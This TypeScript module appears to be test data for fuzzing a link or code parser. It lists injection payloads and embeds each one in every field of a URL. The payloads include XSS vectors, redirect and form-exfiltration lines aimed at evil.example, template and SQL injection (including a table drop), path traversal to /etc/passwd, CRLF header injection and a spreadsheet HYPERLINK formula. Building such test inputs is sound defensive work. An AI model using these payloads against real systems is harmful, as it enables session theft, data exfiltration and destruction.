import { toBase64url } from '@hefu/bytes'
import type { HostileCode, Parts } from './hostile-code.ts'

/** Ways to run something, wherever a text is taken for markup, a script, an address or a template. */
export const SCRIPTS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href=javascript:alert(1)>开</a>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import url(//evil.example/x.css)</style>',
  '<form action=//evil.example><input name=pin></form>',
  '<!--<img src=--><img src=x onerror=alert(1)>',
  ']]><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the attack
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "' OR '1'='1",
  "'; drop table thing; --",
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%0d%0aSet-Cookie:%20a=b',
  '=HYPERLINK("http://evil.example")',
  '\u0000<script>alert(1)</script>',
]

/** A script in each field of a code. */
export function scriptedFields(parts: Parts): HostileCode[] {
  return SCRIPTS.flatMap((script) => scripted(parts, script))
}

function scripted({ host, path, label, key, signature }: Parts, script: string): HostileCode[] {
  const coded = toBase64url(new TextEncoder().encode(script))
  const escaped = encodeURIComponent(script.replaceAll('\u0000', ''))
  return [
    `https://${host}${path}?n=${coded}&${key}&${signature}`,
    `https://${host}${path}?n=${script}&${key}&${signature}`,
    `https://${host}/t/${escaped}?${label}&${key}&${signature}`,
    `https://${host}/t/${script}?${label}&${key}&${signature}`,
    `https://${host}${path}?${label}&k=${escaped}&${signature}`,
    `https://${host}${path}?${label}&${key}&s=${escaped}`,
    `https://${host}${path}?${label}&${key}&${signature}#${script}`,
    `https://${escaped}/t/lift-42?${label}&${key}&${signature}`,
    script,
  ].map((text) => ({ why: 'a script in a field', text }))
}
